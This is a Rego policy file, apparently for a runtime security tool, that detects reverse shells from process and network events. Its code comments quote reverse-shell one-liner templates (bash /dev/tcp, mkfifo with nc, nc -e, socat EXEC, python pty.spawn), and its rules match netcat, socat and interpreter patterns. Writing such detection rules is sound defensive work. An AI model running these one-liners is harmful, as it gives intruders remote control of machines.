# METADATA
# title: Reverse shell
# description: A shell talks to the network itself, is started by a network tool, or is asked to do either.
package sentinel.reverse_shell

import data.sentinel.lib.net
import data.sentinel.lib.programs
import data.sentinel.lib.programs.command_line
import data.sentinel.lib.programs.netcats
import data.sentinel.lib.programs.shells

# METADATA
# title: Shell connects to a public address
# description: Shells start programs that connect, they do not connect. The entry holds for this shell and this address.
# custom:
#   id: reverse-shell-connect
#   accept: [entry-wider-than-rule]
#   severity: critical
#   mitre: [T1059.004, T1071]
#   maturity: stable
deny contains msg if {
	input.event.action == "connect"
	input.network.transport == "tcp"
	programs.is_shell(input.process)
	net.public(input.destination.ip)
	msg := sprintf("shell %s connects to %s port %v", [input.process.executable, input.destination.ip, input.destination.port])
}

# METADATA
# title: Netcat starts a shell
# description: The file and the caller are kernel facts, whatever the arguments say. The entry keeps netcat from this shell and touches nobody else.
# custom:
#   id: reverse-shell-netcat
#   accept: [entry-wider-than-rule]
#   severity: critical
#   mitre: [T1059.004, T1095]
#   maturity: stable
deny contains msg if {
	input.event.action == "exec"
	programs.base(input.process.previous.executable) in netcats
	programs.is_shell(input.process)
	msg := sprintf("%s starts the shell %s", [input.process.previous.executable, input.process.executable])
}

# METADATA
# title: Shell connects inside the network
# description: Start-up scripts wait for a database this way, intruders move sideways this way, so it is an alert only.
# custom:
#   id: reverse-shell-internal-connect
#   severity: medium
#   mitre: [T1059.004, T1021]
#   maturity: incubating
alert contains msg if {
	input.event.action == "connect"
	input.network.transport == "tcp"
	programs.is_shell(input.process)
	net.internal(input.destination.ip)
	not net.loopback(input.destination.ip)
	msg := sprintf("shell %s connects to %s port %v inside the network", [input.process.executable, input.destination.ip, input.destination.port])
}

# METADATA
# title: Shell sends datagrams
# description: A shell that opens /dev/udp. Name look-ups (port 53) are left out.
# custom:
#   id: reverse-shell-udp
#   severity: high
#   mitre: [T1059.004, T1095]
#   maturity: incubating
alert contains msg if {
	input.event.action in {"connect", "send"}
	input.network.transport == "udp"
	input.destination.port != 53
	programs.is_shell(input.process)
	net.public(input.destination.ip)
	msg := sprintf("shell %s sends datagrams to %s port %v", [input.process.executable, input.destination.ip, input.destination.port])
}

# METADATA
# title: Socat starts a shell
# description: Socat also serves consoles of virtual machines, so it is an alert.
# custom:
#   id: reverse-shell-socat
#   severity: high
#   mitre: [T1059.004, T1095]
#   maturity: stable
alert contains msg if {
	input.event.action == "exec"
	programs.base(input.process.previous.executable) == "socat"
	programs.is_shell(input.process)
	msg := sprintf("socat starts the shell %s", [input.process.executable])
}

# METADATA
# title: Command line of a reverse shell
# description: Known one-liners of shells, netcat, socat and interpreters. Arguments are advisory, so it is an alert.
# custom:
#   id: reverse-shell-command-line
#   severity: high
#   mitre: [T1059.004, T1059.006]
#   maturity: stable
alert contains msg if {
	input.event.action == "exec"
	reverse_shell_command(programs.name(input.process))
	msg := sprintf("reverse shell command line: %s", [command_line])
}

# bash -c "bash -i >& /dev/tcp/HOST/PORT 0>&1". A bare /dev/tcp is a health check and passes.
reverse_shell_command(name) if {
	name in shells
	has_any(["/dev/tcp/", "/dev/udp/"])
	has_any([">& /dev/", ">&/dev/", "0>&1", "0<&", "<&1", "bash -i", "sh -i"])
}

# mkfifo p; cat p | sh -i 2>&1 | nc HOST PORT > p
reverse_shell_command(name) if {
	name in shells
	has_any(["mkfifo ", "mknod "])
	has_any(["|nc ", "| nc ", "|ncat ", "| ncat ", "|telnet ", "| telnet ", "s_client"])
}

# nc -e /bin/sh HOST PORT, also with the letters joined (-nve)
reverse_shell_command(name) if {
	name in netcats
	some argument in input.process.args
	runs_program(argument)
}

# socat TCP:HOST:PORT EXEC:sh
reverse_shell_command("socat") if {
	text := lower(command_line)
	some program in ["exec:", "system:", "shell:"]
	contains(text, program)
	some transport in ["tcp", "udp", "openssl", "sctp"]
	contains(text, transport)
}

# python -c 'import socket, pty; ... pty.spawn("sh")' and its relatives
reverse_shell_command(name) if {
	some interpreter in ["python", "perl", "ruby", "php", "lua", "node", "awk", "gawk", "mawk"]
	startswith(name, interpreter)
	has_any(["socket", "Socket", "fsockopen", "/inet/tcp/", "net.connect"])
	has_any(["pty.spawn", "dup2", "/bin/sh", "/bin/bash", "sh -i", "STDIN,\">&"])
}

runs_program(argument) if argument in {"--exec", "--sh-exec", "--lua-exec"}

runs_program(argument) if {
	startswith(argument, "-")
	not startswith(argument, "--")
	some letter in ["e", "c"]
	contains(argument, letter)
}

has_any(needles) if {
	some needle in needles
	contains(command_line, needle)
}
